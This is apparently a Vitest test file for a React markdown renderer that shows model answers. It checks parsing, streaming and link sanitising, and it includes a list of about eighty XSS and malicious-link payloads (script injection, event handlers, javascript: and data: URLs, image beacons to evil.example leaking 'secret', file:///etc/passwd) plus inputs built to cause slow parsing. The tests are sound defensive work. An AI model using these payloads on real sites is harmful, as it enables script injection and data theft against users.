import { MantineProvider } from '@mantine/core'
import { render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import fc from 'fast-check'
import { describe, expect, it, vi } from 'vitest'
import { safeLink } from '../../renderer/features/playground/answer/safe-link.ts'
import { NO_BLOCKS, readOn } from '../../renderer/features/playground/answer/settled-blocks.ts'
import { AnswerText } from '../../renderer/features/playground/answer-text.tsx'
import { cpuMs } from '../support/cpu-time.ts'

function answer(text: string, growing = false, onOpenLink: (url: string) => void = () => undefined) {
  return (
    <MantineProvider env="test">
      <AnswerText text={text} growing={growing} onOpenLink={onOpenLink} />
    </MantineProvider>
  )
}

/** The HTML of the answer itself, without the ids that React makes. */
function htmlOf(text: string, growing = false): string {
  const { container, unmount } = render(answer(text, growing))
  const html = container.querySelector('.answer-text')?.innerHTML ?? ''
  unmount()
  return html.replaceAll(/ (id|style)="[^"]*"/g, '')
}

const bodyOf = (text: string): string =>
  htmlOf(text).replaceAll(/<div(?: class="answer-(?:block|group)")?>|<\/div>/g, '')

describe('markdown that models write', () => {
  it.each([
    ['one\ntwo', '<p>one\ntwo</p>'],
    ['# A\n\n## B ##\n###C', '<h3>A</h3><h4>B</h4><p>###C</p>'],
    [
      '**b** *i* ***both*** ~~s~~ `c`',
      '<p><strong>b</strong> <em>i</em> <strong><em>both</em></strong> <s>s</s> <code>c</code></p>',
    ],
    ['a_b_c 2 * 3 * 4 **', '<p>a_b_c 2 * 3 * 4 **</p>'],
    ['`` a`b `` and ` alone', '<p><code>a`b</code> and ` alone</p>'],
    [String.raw`\*no\* \_no\_`, '<p>*no* _no_</p>'],
    ['- a\n- b\n  - c', '<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ul>'],
    ['3. a\n4. b', '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'],
    ['1. a\n\n   b\n2. c', '<ol start="1"><li><p>a</p><p>b</p></li><li><p>c</p></li></ol>'],
    ['> a\n> > b\nlazy', '<blockquote><p>a</p><blockquote><p>b\nlazy</p></blockquote></blockquote>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    ['a & b < c &amp; <b>', '<p>a &amp; b &lt; c &amp;amp; &lt;b&gt;</p>'],
    ['year:\n2024. was good', '<p>year:\n2024. was good</p>'],
  ])('%j', (text, html) => {
    expect(bodyOf(text)).toBe(html)
  })

  it('shows a table with its alignment, escaped bars and short rows', () => {
    render(answer('| a | b |\n|---|--:|\n| `x` \\| y | 1 |\n| z |'))
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['a', 'b'])
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['x | y', '1', 'z', ''])
    expect(screen.getByRole('cell', { name: '1' })).toHaveAttribute('data-align', 'right')
  })

  it('keeps code exactly, also longer than one piece of layout, and markers inside it', () => {
    const code = Array.from({ length: 130 }, (_, line) => `  line ${line} **not bold** <i>`).join('\n')
    const { container } = render(answer(`~~~js title\n${code}\n~~~\nafter`))
    expect(container.querySelector('pre')?.textContent).toBe(code)
    expect(screen.getByText('js')).toBeInTheDocument()
    expect(screen.getByText('after').tagName).toBe('P')
  })

  it('reads Windows line ends', () => {
    expect(bodyOf('# A\r\n\r\n- b\r\n- c\r\n')).toBe('<h3>A</h3><ul><li><p>b</p></li><li><p>c</p></li></ul>')
  })

  it('opens a link through the app, with the host beside words that hide it', async () => {
    const opened = vi.fn()
    render(answer('[the docs](https://docs.x.ai/a?b=c "title") and https://x.ai/y.', false, opened))
    await userEvent.click(screen.getByRole('button', { name: 'the docs (docs.x.ai)' }))
    await userEvent.click(screen.getByRole('button', { name: 'https://x.ai/y' }))
    expect(opened.mock.calls).toEqual([['https://docs.x.ai/a?b=c'], ['https://x.ai/y']])
  })

  it('names an image and does not fetch it', () => {
    const { container } = render(answer('![a cat](https://evil.example/p.png?q=secret)'))
    expect(screen.getByRole('button', { name: 'Image: a cat (evil.example)' })).toBeInTheDocument()
    expect(container.querySelector('img')).toBeNull()
  })

  it('gives away a link that claims to be another', () => {
    render(answer('[https://x.ai](https://evil.example/)'))
    expect(screen.getByRole('button', { name: 'https://x.ai (evil.example)' })).toBeInTheDocument()
  })
})

describe('text that still grows', () => {
  it.each([
    ['**bol', '<p><strong>bol</strong></p>'],
    ['so **', '<p>so </p>'],
    ['use `npm', '<p>use <code>npm</code></p>'],
    ['see [the docs](https://do', '<p>see the docs</p>'],
    ['see https://docs.x', '<p>see https://docs.x</p>'],
    ['a\n\n--', '<p>a</p>'],
    ['a\n\n#', '<p>a</p>'],
  ])('%j shows no marker that will vanish', (text, html) => {
    const shown = htmlOf(text, true)
    expect(shown.replaceAll(/<div(?: class="answer-(?:block|group)")?>|<\/div>/g, '')).toBe(html)
  })

  it('shows the first line of a table as a table at once', () => {
    render(answer('text\n\n| model | pr', true))
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['model', 'pr'])
  })

  it('leaves finished blocks in place while the tail grows', () => {
    const { container, rerender } = render(answer('# one\n\ntwo\n\nthree', true))
    const before = [...container.querySelectorAll('h3, p')]
    rerender(answer('# one\n\ntwo\n\nthree goes on\n\n- four\n- five', true))
    expect([...container.querySelectorAll('h3, p')].slice(0, 3)).toEqual(before)
    expect(before[0]?.isConnected).toBe(true)
    rerender(answer('# one\n\ntwo\n\nthree goes on\n\n- four\n- five', false))
    expect(before.every((element) => element.isConnected)).toBe(true)
  })

  it('starts anew when the text is another one', () => {
    const { rerender } = render(answer('one\n\ntwo\n\nthree\n\nfour', true))
    rerender(answer('other', true))
    expect(screen.getByText('other')).toBeInTheDocument()
    expect(screen.queryByText('one')).toBeNull()
  })
})

const piece = fc.constantFrom(
  ...[
    'a',
    'b c',
    '\n',
    '\n\n',
    '- ',
    '1. ',
    '> ',
    '# ',
    '```',
    '```\n',
    '$$',
    '$',
    '\\[',
    '\\]',
    '\\(x\\)',
    '[^1]',
    '[^1]: ',
    '|',
    '|--|',
    '|a|b|\n|-|-|\n',
    '---',
    '\r\n',
  ],
  ...[
    '**',
    '*',
    '_',
    '`',
    '[',
    '](https://x.ai)',
    '![',
    '  ',
    '\t',
    '2.',
    '<b>',
    '~~~',
    '\\',
    'https://x.ai',
  ],
)
const markdown = fc.array(piece, { maxLength: 40 })

describe('reading in parts', () => {
  it('gives the same blocks whatever the parts are', () => {
    fc.assert(
      fc.property(markdown, (parts) => {
        const whole = readOn(NO_BLOCKS, parts.join(''), false)
        let text = ''
        let grown = NO_BLOCKS
        for (const part of parts) {
          text += part
          const before = grown
          grown = readOn(grown, text, true)
          expect(grown.settled.slice(0, before.settled.length)).toEqual(before.settled)
        }
        const ended = readOn(grown, text, false)
        const raws = (blocks: typeof whole) =>
          [...blocks.settled, ...blocks.tail].map(({ raw, block }) => [raw, block])
        expect(raws(ended)).toEqual(raws(whole))
      }),
      { numRuns: 1500 },
    )
  })

  it('leaves a formula open while its next line has only begun', () => {
    const opening = '\\[\n[^1]: a\n|a|b|\n|-|-|\n'
    const grown = readOn(NO_BLOCKS, opening, true)
    expect(grown.settled).toEqual([])
    const more = readOn(grown, `${opening}x\\]`, false)
    expect(more.tail.map(({ block }) => block.kind)).toEqual(['math'])
    const blank = readOn(grown, `${opening}\nx`, false)
    expect(blank).toMatchObject(readOn(NO_BLOCKS, `${opening}\nx`, false))
  })

  it('shows the same page after growing as at once', () => {
    fc.assert(
      fc.property(markdown, (parts) => {
        const text = parts.join('')
        const { container, rerender, unmount } = render(answer('', true))
        parts.forEach((_, index) => {
          rerender(answer(parts.slice(0, index + 1).join(''), true))
        })
        rerender(answer(text, false))
        const html = container.querySelector('.answer-text')?.innerHTML.replaceAll(/ (id|style)="[^"]*"/g, '')
        unmount()
        expect(html).toBe(htmlOf(text))
      }),
      { numRuns: 40 },
    )
  })
})

const hostile = [
  '<script>window.hit=1</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="data:text/html,<script>hit()</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<form action="https://evil.example"><input name=a><button>Save key</button></form>',
  '<a href="javascript:hit()">x</a>',
  '<a href="https://evil.example" target=_blank>x</a>',
  '<video src=https://evil.example/v onerror=hit()>',
  '<audio src=x onerror=hit()>',
  '<details open ontoggle=hit()>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '[x](javascript:hit())',
  '[x](JaVaScRiPt:hit())',
  '[x](java\tscript:hit())',
  '[x]( javascript:hit())',
  '[x](&#106;avascript:hit())',
  '[x](\u0001javascript:hit())',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[x](vbscript:hit())',
  '[x](file:///etc/passwd)',
  '[x](smb://evil.example/share)',
  '[x](\\\\evil.example\\share)',
  '[x](ms-msdt:/id)',
  '[x](//evil.example)',
  '[x](/settings)',
  '[x](#/settings)',
  '[x](http://evil.example)',
  '[x](https://x.ai@evil.example)',
  '[x](https://user:pass@evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https:evil.example)',
  '[x](blob:https://evil.example/1)',
  '[x](filesystem:https://evil.example/1)',
  '[x](app://bundle/index.html)',
  '[x](chrome://settings)',
  '![x](javascript:hit())',
  '![x](https://evil.example/leak?d=secret)',
  '![x](data:image/svg+xml,<svg onload=hit()>)',
  '![x](http://evil.example/pixel)',
  '[![x](https://evil.example/a.png)](javascript:hit())',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '[a]: javascript:hit()\n\n[a]',
  '![a]\n\n[a]: https://evil.example/p.png',
  '<javascript:hit()>',
  '<https://evil.example/"onmouseover=hit()>',
  'https://evil.example/"onmouseover="hit()',
  '```html\n<script>hit()</script>\n```',
  '```"><script>hit()</script>\nx\n```',
  '`<img src=x onerror=hit()>`',
  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
  '- <img src=x onerror=hit()>',
  '> <script>hit()</script>',
  '# <svg onload=hit()>',
  '<!-- --><script>hit()</script>',
  '<![CDATA[<script>hit()</script>]]>',
  '<?php echo 1 ?><script>hit()</script>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '[x](https://evil.example/\u202egnp.exe)',
  '[](https://evil.example)',
  '$$\\href{javascript:hit()}{x}$$',
  '```mermaid\nclick A "javascript:hit()"\n```',
  '[x](<javascript:hit()>)',
  '[x](https://evil.example "onclick=hit()")',
  '"><svg/onload=hit()>',
  "'-hit()-'",
]

describe('hostile text', () => {
  const allowed = new Set(
    [
      'P',
      'H3',
      'H4',
      'H5',
      'H6',
      'UL',
      'OL',
      'LI',
      'BLOCKQUOTE',
      'HR',
      'PRE',
      'CODE',
      'STRONG',
      'EM',
      'S',
      'SPAN',
    ].concat(['TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'BUTTON', 'DIV', 'FIGURE', 'FIGCAPTION']),
  )

  it.each(hostile.flatMap((text) => [[text, true] as const, [text, false] as const]))(
    '%j growing=%j',
    (text, growing) => {
      const { container } = render(answer(text, growing))
      const root = container.querySelector('.answer-text')
      for (const element of root?.querySelectorAll('*') ?? []) {
        expect(allowed).toContain(element.tagName)
        for (const { name } of element.attributes)
          expect(name).not.toMatch(/^on|^href$|^src|^action|^formaction|^srcdoc/)
        const address = element.tagName === 'BUTTON' ? element.getAttribute('title') : null
        if (address !== null) expect(address).toMatch(/^https:\/\/[^@\\]+$/)
      }
      expect(window).not.toHaveProperty('hit')
    },
  )

  it('has at least sixty payloads', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(60)
  })

  it.each([
    'javascript:alert(1)',
    'http://x.ai',
    'https://',
    'https:///x',
    'https://a b',
    'https://x.ai@evil.example',
    `https://x.ai/${'a'.repeat(2048)}`,
    'https://x.ai\u202e',
    ' https://x.ai',
    'https:\\\\x.ai',
    'HTTPS:x.ai',
    'https://[',
    'https://x.ai:99999',
  ])('%j is no link', (written) => {
    expect(safeLink(written)).toBeNull()
  })

  it('shows the true host of a link in another script', () => {
    expect(safeLink('https://xn--80ak6aa92e.com/')).toEqual({
      url: 'https://xn--80ak6aa92e.com/',
      host: 'xn--80ak6aa92e.com',
    })
    expect(safeLink('https://аррle.com/')?.host).toMatch(/^xn--/)
  })
})

describe('text made to be slow', () => {
  const size = 50_000
  const slow: Record<string, string> = {
    'nested quotes': '>'.repeat(size),
    'nested quotes, spaced': '> '.repeat(size),
    'nested lists': '- '.repeat(size),
    'nested numbered lists': '1. '.repeat(size),
    'open brackets': '['.repeat(size),
    'open images': '!['.repeat(size),
    'open links': '[a]('.repeat(size),
    'empty links': '[]()'.repeat(size / 4),
    'open emphasis': '*a '.repeat(size),
    'mixed emphasis': '*a **b _c __d ~~e '.repeat(size / 10),
    'back quotes of every length': Array.from({ length: 300 }, (_, length) => '`'.repeat(length + 1)).join(
      ' ',
    ),
    'back quotes': '` '.repeat(size),
    'bare links': 'https://'.repeat(size / 4),
    'open angles': '<https://a'.repeat(size / 5),
    bars: '|'.repeat(size),
    'table heads': '|a|\n|-'.repeat(size / 4),
    'dashes with spaces': `- ${' '.repeat(size)}x`,
    'blank lines': '\n \n'.repeat(size),
    fences: '```\n'.repeat(size / 4),
    hashes: `# a ${'#'.repeat(size)} b`,
    'back slashes': '\\'.repeat(size),
    'one long word': 'a'.repeat(size * 4),
    'open parentheses': `[a](${'('.repeat(size)}`,
    'stairs of quotes': Array.from({ length: 300 }, (_, depth) => `${'>'.repeat(depth)} a`).join('\n'),
  }

  it.each(Object.entries(slow))('%s: read in a fraction of a second', (_, text) => {
    const started = cpuMs()
    readOn(NO_BLOCKS, text, true)
    const { unmount } = render(answer(text.slice(0, 50_000)))
    const took = cpuMs() - started
    unmount()
    expect(took).toBeLessThan(3000)
  })
})
